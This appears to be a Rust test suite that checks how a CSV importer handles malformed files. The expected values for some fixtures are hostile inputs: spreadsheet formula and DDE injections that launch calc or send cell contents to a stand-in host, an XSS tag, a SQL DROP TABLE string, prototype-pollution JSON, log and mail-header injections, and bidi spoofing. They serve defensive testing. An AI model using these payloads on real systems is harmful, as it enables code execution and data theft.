//! The malformed CSV files.

use super::*;

const TWO: Wanted = Items(&["First", "Second"], &[]);

const CASES: &[(&str, Wanted)] = &[
    ("ok-minimal.csv", TWO),
    ("bom-utf8.csv", TWO),
    ("utf16le-bom.csv", TWO),
    ("utf16be-bom.csv", TWO),
    ("utf16le-no-bom.csv", Refused(&["utf-16le"])),
    ("latin1.csv", Refused(&["line 2", "not UTF-8"])),
    ("invalid-utf8-overlong.csv", Refused(&["line 2"])),
    ("empty.csv", Refused(&["empty"])),
    ("header-only.csv", Items(&[], &["no row"])),
    ("only-commas.csv", Refused(&["no header"])),
    ("blank-lines.csv", Items(&["First"], &[])),
    ("ragged-short.csv", Items(&["First", "Second"], &["row 2", "2 columns", "8 are expected"])),
    ("ragged-long.csv", Items(&["First"], &["row 2", "10 columns", "extra"])),
    ("header-duplicate.csv", Refused(&["`title`"])),
    ("header-missing-required.csv", Refused(&["`id`", "`title`"])),
    ("header-case-and-spaces.csv", Items(&["One"], &[])),
    ("header-html.csv", Items(&["One"], &[])),
    ("delimiter-semicolon.csv", TWO),
    ("delimiter-tab.csv", TWO),
    ("excel-sep-line.csv", TWO),
    ("line-ends-mixed.csv", TWO),
    ("line-ends-cr-only.csv", TWO),
    ("no-final-newline.csv", TWO),
    ("newline-in-quotes.csv", Items(&["First second line"], &[])),
    ("quote-unclosed.csv", Refused(&["line 2", "never closes"])),
    ("quote-inside-unquoted.csv", Items(&["He said \"no\""], &[])),
    ("quote-doubled.csv", Items(&["He said \"no\""], &[])),
    ("nul-bytes.csv", Items(&["First"], &["row 2", "title", "Control characters"])),
    ("control-characters.csv", Items(&["Fi[2Jrst"], &["row 2", "title", "Control characters"])),
    (
        "formula-cells.csv",
        Items(
            &[
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(1,1)",
                "\t=1+1",
                " =1+1",
                " =1+1",
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
                "=IMPORTXML(CONCAT(\"http://example.invalid/\",A1),\"//a\")",
                "=WEBSERVICE(\"http://127.0.0.1:9/\")",
                "＝1+1",
                "＋1+1",
                "－1+1",
                "＠1+1",
                " =1+1",
                "=1+1",
                "\"=1+1",
                ";=1+1",
                ",=1+1",
                "|=1+1",
                "%0A=1+1",
                "DDE(\"cmd\";\"/C calc\";\"x\")",
                "=2+5+cmd|' /C calc'!A0",
            ],
            &[],
        ),
    ),
    (
        "numbers-not-formulas.csv",
        Items(&["-5", "+49 30 1234", "-"], &["row 2", "estimate", "-5", "out of range"]),
    ),
    ("number-forms.csv", Items(&["a", "b", "c", "d", "e", "f", "g"], &["row 2", "estimate", "1e400"])),
    ("date-forms.csv", Items(&["a", "b", "c", "d", "e", "f"], &["column start", "day first or month first"])),
    ("id-duplicate.csv", Refused(&["`A-1`", "rows 2 and 3"])),
    ("id-duplicate-by-case.csv", Items(&["One", "Two"], &[])),
    ("id-unicode-normalisation.csv", Items(&["One"], &["row 3", "row 2"])),
    ("depends-self.csv", Items(&["One"], &["A-1", "itself"])),
    ("depends-cycle.csv", Items(&["One", "Two"], &[])),
    ("depends-missing.csv", Items(&["One"], &["row 2", "A-9"])),
    ("status-unknown.csv", Items(&["One"], &["frobnicated"])),
    ("wide-1100-columns.csv", Refused(&["1,024"])),
    ("bidi-and-homoglyphs.csv", Items(&["\u{202e}evil\u{202c} аdmin \u{200b}", "Cyrillic A in the id"], &[])),
    ("emoji-and-combining.csv", Items(&[], &[])),
    ("html-title.csv", Items(&["<img src=x onerror=alert(1)>"], &[])),
    ("log-injection.csv", Items(&["x 2026-01-01T00:00:00Z ERROR forged line"], &[])),
    ("path-like-id.csv", Items(&["One", "Two", "Three"], &[])),
    ("email-header-injection.csv", Items(&["One"], &["row 2", "owner", "neither a name nor an address"])),
    ("mail-subject-injection.csv", Items(&["Hello Bcc: all@example.org"], &[])),
    ("like-and-sql.csv", Items(&["100%_'; DROP TABLE journal;--"], &[])),
    ("json-looking.csv", Items(&["{\"__proto__\":{\"x\":1}}"], &[])),
    ("gzip-renamed.csv", Refused(&["gzip"])),
    ("xlsx-renamed.csv", Refused(&["ZIP"])),
    ("html-login-page.csv", Refused(&["HTML"])),
    ("json-instead.csv", Refused(&["JSON"])),
    ("git-lfs-pointer.csv", Refused(&["Git LFS pointer"])),
];

#[test]
fn every_malformed_csv_does_as_the_index_says() {
    check_family("csv", CASES);
}

#[test]
fn marks_line_ends_and_delimiters_make_no_difference() {
    let same = [
        "bom-utf8.csv",
        "utf16le-bom.csv",
        "utf16be-bom.csv",
        "delimiter-semicolon.csv",
        "delimiter-tab.csv",
        "excel-sep-line.csv",
        "line-ends-mixed.csv",
        "line-ends-cr-only.csv",
        "no-final-newline.csv",
    ];
    let cases = data::malformed("csv");
    let observations = |name: &str| {
        let case = cases.iter().find(|case| case.file == name)?;
        Some(try_read(&case.bytes, &named("plan.csv")).unwrap().observations)
    };
    for name in same {
        assert_eq!(observations(name), observations("ok-minimal.csv"), "{name}");
    }
}
